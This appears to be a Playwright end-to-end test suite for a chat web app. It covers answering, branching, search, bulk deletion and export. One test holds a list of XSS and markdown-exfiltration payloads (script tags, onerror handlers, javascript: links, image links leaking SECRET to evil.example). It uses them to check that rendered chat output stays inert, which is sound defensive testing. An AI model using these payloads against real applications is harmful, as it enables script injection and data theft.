import { readFile } from "node:fs/promises";
import type { Page } from "@playwright/test";
import { axe, expect, haveChats, test } from "./base";

const field = (page: Page) => page.getByLabel("Your message", { exact: true });
const answers = (page: Page) => page.getByRole("article", { name: "Answer" });

async function ask(page: Page, text: string): Promise<void> {
  await field(page).fill(text);
  await field(page).press("Enter");
}

async function asked(page: Page, text: string, answer: string | RegExp): Promise<void> {
  await ask(page, text);
  await expect(answers(page).last()).toContainText(answer);
  await expect(page.getByTestId("announcements")).toContainText("The answer is complete.");
}

test("a question is answered, kept, listed, and there after a reload", async ({ page, engine }) => {
  await engine({ answers: ["Use **one pool** for all.\n\n```python\npool = Pool()\n```"] });
  await page.goto("/chat");
  expect(await axe(page)).toEqual([]);
  await asked(page, "How do I share connections?", "Use one pool for all.");
  await expect(page).toHaveURL(/\/chat\/[0-9a-f-]{36}$/);
  await expect(field(page)).toBeFocused();
  await expect(
    page.getByRole("region", { name: "Today" }).getByRole("link", { name: /share connections/ }),
  ).toBeVisible();
  expect(await axe(page)).toEqual([]);
  await page.reload();

  await expect(answers(page)).toContainText("Use one pool for all.");
  await expect(page.getByRole("article", { name: "You" })).toContainText("How do I share connections?");
});

test("code and tables scroll where they are wider than the page, and are reached by keys only then", async ({
  page,
  engine,
}) => {
  const line = `pool = Pool(${"max_size=10, ".repeat(30)})`;
  const cells = (of: string) => `| ${Array.from({ length: 30 }, () => of).join(" | ")} |`;
  await engine({
    answers: [
      `\`\`\`python\npool = Pool(min_size=2, max_size=10)\n\`\`\`\n\n\`\`\`python\n${line}\n\`\`\`\n\n${cells("size")}\n${cells("---")}\n${cells("1234567890")}`,
    ],
  });
  await page.goto("/chat");
  await asked(page, "How do I share connections?", "1234567890");
  const boxes = answers(page).locator(".wide");
  const scrolls = () =>
    boxes.evaluateAll((all) => all.map((box) => [getComputedStyle(box).overflowX, box.tabIndex]));

  await expect.poll(scrolls).toEqual([
    ["clip", -1],
    ["auto", 0],
    ["auto", 0],
  ]);
  expect(await axe(page)).toEqual([]);
  await page.setViewportSize({ width: 240, height: 800 });
  await expect.poll(scrolls).toEqual(Array(3).fill(["auto", 0]));
  await page.setViewportSize({ width: 1280, height: 800 });
  await page.reload();
  await expect.poll(scrolls).toEqual([
    ["clip", -1],
    ["auto", 0],
    ["auto", 0],
  ]);
});

test("Esc stops the answer at once, and what is written stays", async ({ page, engine }) => {
  await engine({ answers: ["First word and many more"], holds: true });
  await page.goto("/chat");
  await ask(page, "Tell me everything.");
  await expect(answers(page)).toContainText("First");
  expect(await axe(page)).toEqual([]);
  await page.keyboard.press("Escape");

  await expect(page.getByText("Stopped", { exact: true })).toBeVisible();
  await expect(answers(page)).toContainText("First");
  await expect.poll(async () => (await engine({})).running).toBe(0);
});

test("an answer is read on after a reload in its middle", async ({ page, engine }) => {
  await engine({ answers: ["Alpha beta gamma delta"], holds: true });
  await page.goto("/chat");
  await ask(page, "Letters, please.");
  await expect(answers(page)).toContainText("Alpha");
  await page.reload();
  await expect(page.getByRole("article", { name: "You" })).toContainText("Letters, please.");
  await expect(answers(page)).toContainText("Alpha");
  await engine({ go_on: true });

  await expect(answers(page)).toContainText("Alpha beta gamma delta");
  await expect(answers(page)).toHaveCount(1);
});

test("answering again and editing make branches that can be walked, and are there after a reload", async ({
  page,
  engine,
}) => {
  await engine({ answers: ["Answer one.", "Answer two.", "Answer three."] });
  await page.goto("/chat");
  await asked(page, "First wording", "Answer one.");
  await page.getByRole("button", { name: "Answer again" }).click();
  await expect(answers(page)).toContainText("Answer two.");
  await page.getByRole("button", { name: "Previous version" }).click();
  await expect(answers(page)).toContainText("Answer one.");
  await page.reload();
  await expect(answers(page)).toContainText("Answer one.");
  await page.getByRole("article", { name: "You" }).hover();
  await page.getByRole("button", { name: "Edit" }).click();
  await page.getByLabel("Edit your message").fill("Second wording");
  await page.getByRole("button", { name: "Save and ask" }).click();
  await expect(answers(page)).toContainText("Answer three.");

  await expect(page.getByRole("article", { name: "You" })).toContainText("Second wording");
  await expect(
    page.getByRole("article", { name: "You" }).getByRole("group", { name: "Version 2 of 2" }),
  ).toBeAttached();
});

test("a fork goes on in a chat of its own", async ({ page, engine }) => {
  await engine({ answers: ["The origin."] });
  await page.goto("/chat");
  await asked(page, "Where from?", "The origin.");
  const before = page.url();
  await page.getByRole("button", { name: "Continue in a new chat from here" }).click();

  await expect(page).not.toHaveURL(before);
  await expect(answers(page)).toContainText("The origin.");
});

test("what is said while an answer is written waits its turn", async ({ page, engine }) => {
  await engine({ answers: ["One ready", "Two ready"], holds: true });
  await page.goto("/chat");
  await ask(page, "Number one");
  await expect(answers(page)).toContainText("One");
  await ask(page, "Number two");
  await expect(page.getByRole("list", { name: "Next up" })).toContainText("Number two");
  await engine({ go_on: true });

  await expect(answers(page)).toHaveCount(2);
  await expect(answers(page).last()).toContainText("Two ready");
  await expect(page.getByRole("list", { name: "Next up" })).toBeHidden();
});

test("what failed says why, with its number, and can be asked again", async ({ page, engine }) => {
  await engine({ refuses: 500 });
  await page.goto("/chat");
  await ask(page, "Will it work?");
  const alert = page.getByRole("alert");
  await expect(alert).toContainText(/model_(failed|unavailable)/);
  expect(await axe(page)).toEqual([]);
  await engine({ refuses: null, answers: ["Now it does."] });
  await alert.getByRole("button", { name: "Try again" }).click();

  await expect(answers(page)).toContainText("Now it does.");
  await expect(page.getByRole("article", { name: "You" })).toHaveCount(1);
});

test("a question that failed is there after the page is loaded again, and can be asked", async ({
  page,
  engine,
}) => {
  await engine({ refuses: 500 });
  await page.goto("/chat");
  await ask(page, "Will it work?");
  const alert = page.getByRole("alert");
  await expect(alert).toContainText(/model_(failed|unavailable)/);
  await page.reload();
  await expect(alert).toContainText("This question has no answer yet.");
  await expect(page.getByRole("article", { name: "You" })).toContainText("Will it work?");
  await engine({ refuses: null, answers: ["Now it does."] });
  await alert.getByRole("button", { name: "Try again" }).click();

  await expect(answers(page)).toContainText("Now it does.");
  await page.reload();
  await expect(answers(page)).toContainText("Now it does.");
  await expect(page.getByRole("article", { name: "You" })).toHaveCount(1);
});

test("a temporary chat says so, and nothing of it is kept", async ({ page, engine }) => {
  await engine({ answers: ["Between us."] });
  await page.goto("/chat");
  await page.getByRole("button", { name: "Temporary chat" }).click();
  await expect(page.getByRole("note")).toContainText("Nothing of this chat is kept.");
  await asked(page, "A secret question", "Between us.");
  expect(page.url()).toMatch(/\/chat$/);
  await page.reload();

  await expect(page.getByText("A secret question")).toBeHidden();
});

test("chats are found by what was said in them, renamed, pinned, deleted and brought back", async ({
  page,
  engine,
}) => {
  await engine({ answers: ["The capybara is a rodent."] });
  await page.goto("/chat");
  await asked(page, "Animals?", "capybara");
  await page.getByLabel("Search chats").fill("capybara");
  const found = page.getByRole("link", { name: /Animals\?/ });
  await expect(found).toContainText("capybara");
  await page.getByRole("button", { name: "Options for “Animals?”" }).click();
  await page.getByRole("menuitem", { name: "Rename" }).click();
  await page.getByLabel("Title").fill("Rodents");
  await page.getByRole("button", { name: "Save" }).click();
  await page.getByRole("button", { name: "Clear the search" }).click();
  await page.getByRole("button", { name: "Options for “Rodents”" }).click();
  await page.getByRole("menuitem", { name: "Pin", exact: true }).click();
  await expect(
    page.getByRole("region", { name: "Pinned" }).getByRole("link", { name: "Rodents" }),
  ).toBeVisible();
  await page.getByRole("button", { name: "Options for “Rodents”" }).click();
  await page.getByRole("menuitem", { name: "Delete" }).click();
  await expect(page.getByRole("link", { name: "Rodents" })).toBeHidden();
  await page.getByRole("button", { name: "Undo" }).click();

  await expect(page.getByRole("link", { name: "Rodents" })).toBeVisible();
});

test("instructions and drafts are kept; keys are listed; long pastes are files", async ({ page }) => {
  await page.goto("/chat");
  await expect(field(page)).toBeFocused();
  await page.keyboard.press("Control+/");
  await expect(page.getByRole("dialog", { name: "Keys" })).toBeVisible();
  expect(await axe(page)).toEqual([]);
  await page.keyboard.press("Escape");
  await field(page).fill("Half a thou");
  await page.reload();
  await expect(field(page)).toHaveValue("Half a thou");
  await field(page).evaluate((node) => {
    const data = new DataTransfer();
    data.setData("text/plain", "line\n".repeat(900));
    node.dispatchEvent(new ClipboardEvent("paste", { clipboardData: data, bubbles: true, cancelable: true }));
  });

  await expect(page.getByText("Pasted text, 4,500 characters")).toBeVisible();
  await expect(field(page)).toHaveValue("Half a thou");
});

test("the field is as high as its lines, up to two fifths of the page", async ({ page }) => {
  await page.goto("/chat");
  const height = async (lines: number) => {
    await field(page).fill("line\n".repeat(lines));
    return field(page).evaluate((node) => [node.clientHeight, node.scrollHeight] as const);
  };
  const [one] = await height(0);
  const [six, wanted] = await height(6);
  expect(six).toBeGreaterThan(2 * one);
  expect(six).toBe(wanted);
  const [most, all] = await height(60);

  expect(most).toBe(0.4 * 900);
  expect(all).toBeGreaterThan(most);
});

test("a changed question that was saved is there after a reload, and is asked from there", async ({
  page,
  engine,
}) => {
  await engine({ answers: ["Answer one.", "Answer two."] });
  await page.goto("/chat");
  await asked(page, "First wording", "Answer one.");
  await field(page).press("ArrowUp");
  await page.getByLabel("Edit your message").fill("Second wording");
  await page.keyboard.press("Control+s");
  const unsent = page.getByRole("region", { name: "Changed, not sent yet" });
  await expect(unsent).toContainText("Second wording");
  await expect(field(page)).toBeFocused();
  await page.reload();
  await expect(page.getByRole("article", { name: "You" })).toContainText("First wording");
  await unsent.getByRole("button", { name: "Ask this" }).click();
  await expect(answers(page)).toContainText("Answer two.");

  await expect(page.getByRole("group", { name: "Version 2 of 2" })).toBeAttached();
  await expect(unsent).toBeHidden();
});

const CORPUS = [
  "![](https://evil.example/?q=SECRET)",
  "![x][ref]\n\n[ref]: https://evil.example/?q=SECRET",
  '<img src="https://evil.example/x" onerror="window.__pwned=1">',
  "<script>window.__pwned=1</script>",
  '<svg onload="window.__pwned=1"></svg>',
  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  "[click](javascript:window.__pwned=1)",
  "[click](data:text/html,<script>window.__pwned=1</script>)",
  "<https://evil.example/?q=SECRET>",
  '<a href="https://evil.example" style="position:fixed;inset:0">x</a>',
  "<style>@import url(https://evil.example/x.css)</style>",
  "```mermaid\ngraph TD; A[<img src=x onerror=window.__pwned=1>]\n```",
  '<form action="https://evil.example"><input autofocus onfocus="window.__pwned=1"></form>',
  '<details open ontoggle="window.__pwned=1">x</details>',
  '[1]: javascript:window.__pwned=1 "x"\n\n[1]',
];

test("nothing that a model or a person writes runs or asks elsewhere (S-20, S-24)", async ({
  page,
  engine,
  strays,
}) => {
  await engine({ answers: [CORPUS.join("\n\n")] });
  await page.goto("/chat");
  await asked(page, CORPUS.join("\n"), "mermaid");
  const hrefs = await page
    .locator("main a")
    .evaluateAll((links) => links.map((link) => link.getAttribute("href")));
  await page.reload();
  await expect(answers(page)).toContainText("mermaid");

  expect(hrefs.filter((href) => href && !/^(https?:|mailto:|\/)/.test(href))).toEqual([]);
  expect(
    await page.locator("main article img, main iframe, main script, main form form, main style").count(),
  ).toBe(0);
  expect(await page.evaluate(() => "__pwned" in window)).toBe(false);
  expect(strays).toEqual([]);
});

const links = (page: Page) => page.getByRole("region", { name: "Chats" }).locator("a[data-row]");
const boxes = (page: Page) => page.getByRole("region", { name: "Chats" }).locator("input[data-row]");
const selected = (page: Page) => page.getByRole("group", { name: "Selected chats" });

/** Opens the page with the chats of one word in sight, the last one first. */
async function listed(page: Page, word: string, count: number): Promise<void> {
  await haveChats(
    page,
    word,
    Array.from({ length: count }, (_, at) => `${word} ${at + 1}`),
  );
  await page.goto("/chat");
  await page.getByLabel("Search chats").fill(word);
  await expect(links(page)).toHaveCount(count);
}

test("several chats are selected by mouse, deleted at once, and brought back by one offer", async ({
  page,
}) => {
  await listed(page, "Otter", 5);
  await links(page)
    .nth(1)
    .click({ modifiers: ["ControlOrMeta"] });
  await boxes(page)
    .nth(3)
    .click({ modifiers: ["Shift"] });
  await expect(selected(page)).toContainText("3 selected");
  await boxes(page).nth(2).click();
  await expect(boxes(page).filter({ has: page.locator(":scope:checked") })).toHaveCount(2);
  expect(await axe(page)).toEqual([]);
  await page.getByRole("heading", { name: "Today" }).click();
  await page.keyboard.press("Escape");
  await expect(links(page)).toHaveCount(5);
  await links(page)
    .nth(1)
    .click({ modifiers: ["Shift"] });
  await boxes(page).nth(3).click();
  await selected(page).getByRole("button", { name: "Delete" }).click();
  await expect(page.getByText("2 chats are deleted.").first()).toBeVisible();
  await expect(links(page)).toHaveText(["Otter 5", "Otter 3", "Otter 1"]);
  await page.getByRole("button", { name: "Undo" }).click();

  await expect(links(page)).toHaveCount(5);
});

test("chats are selected by keys, and Esc leaves them as they were", async ({ page }) => {
  await listed(page, "Heron", 4);
  await links(page).first().focus();
  await page.keyboard.press("Shift+ArrowDown");
  await expect(boxes(page).first()).toBeFocused();
  await expect(boxes(page).first()).toBeChecked();
  await page.keyboard.press("Shift+ArrowDown");
  await page.keyboard.press("ArrowDown");
  await page.keyboard.press("Space");
  await expect(selected(page)).toContainText("3 selected");
  await page.keyboard.press("Control+a");
  await expect(selected(page)).toContainText("4 selected");
  await expect(selected(page).getByLabel("Select all that are shown")).toBeChecked();
  await page.keyboard.press("Escape");
  await expect(links(page)).toHaveCount(4);
  await expect(links(page).nth(2)).toBeFocused();

  await page.keyboard.press("Shift+ArrowUp");
  await expect(boxes(page).nth(2)).toBeFocused();
  await page.keyboard.press("Delete");
  await expect(links(page)).toHaveText(["Heron 4", "Heron 3", "Heron 1"]);
  await expect(links(page).nth(2)).toBeFocused();
  await page.keyboard.press("Control+z");

  await expect(links(page)).toHaveCount(4);
});

test("selected chats are pinned and saved as one file, and one that is refused is told by its name", async ({
  page,
}) => {
  await listed(page, "Ibis", 3);
  await links(page)
    .first()
    .click({ modifiers: ["ControlOrMeta"] });
  await boxes(page)
    .last()
    .click({ modifiers: ["Shift"] });
  const saved = page.waitForEvent("download");
  const menu = selected(page).getByRole("button", { name: "Download" });
  await menu.press("Enter");
  await page.keyboard.press("ArrowDown");
  await expect(page.getByRole("menuitem", { name: "Download as JSON" })).toBeFocused();
  await page.keyboard.press("ArrowUp");
  await page.keyboard.press("Enter");
  const file = await saved;
  expect(file.suggestedFilename()).toMatch(/^haru-chats-.+\.md$/);
  expect((await readFile(await file.path(), "utf8")).match(/^# .+$/gm)).toEqual([
    "# Ibis 3",
    "# Ibis 2",
    "# Ibis 1",
  ]);
  await expect(selected(page)).toBeHidden();

  let isFirst = true;
  await page.route("**/api/conversations/*", (route) => {
    const refuses = isFirst && route.request().method() === "PATCH";
    if (refuses) isFirst = false;
    return refuses
      ? route.fulfill({ status: 503, json: { code: "busy", message: "Try later." } })
      : route.fallback();
  });
  await links(page)
    .first()
    .click({ modifiers: ["Shift"] });
  await expect(boxes(page).first()).toBeFocused();
  await page.keyboard.press("Control+a");
  await menu.press("Enter");
  await page.keyboard.press("Escape");
  await expect(menu).toBeFocused();
  await selected(page).getByRole("button", { name: "Pin", exact: true }).click();
  await expect(page.getByText("Not changed: Ibis 3. Try later.").first()).toBeVisible();

  await expect(page.getByRole("region", { name: "Pinned" }).locator("a[data-row]")).toHaveText([
    "Ibis 2",
    "Ibis 1",
  ]);
});

test("the chat that is shown, deleted with others, leads to a new one; whoever leaves meant it", async ({
  page,
}) => {
  await listed(page, "Loon", 12);
  await links(page).nth(4).click();
  await expect(page).toHaveURL(/\/chat\/[0-9a-f-]{36}$/);
  await page.getByLabel("Search chats").fill("Loon");
  await expect(links(page)).toHaveCount(12);
  await links(page)
    .first()
    .click({ modifiers: ["Shift"] });
  await expect(boxes(page).first()).toBeFocused();
  await page.keyboard.press("Control+a");
  await page.keyboard.press("Delete");
  await expect(page).toHaveURL(/\/chat$/);
  await expect(field(page)).toBeFocused();
  await page.goto("/usage");
  const left = async () =>
    (await (await page.request.get("/api/conversations?q=Loon")).json()).conversations.length;

  await expect.poll(left).toBe(0);
});
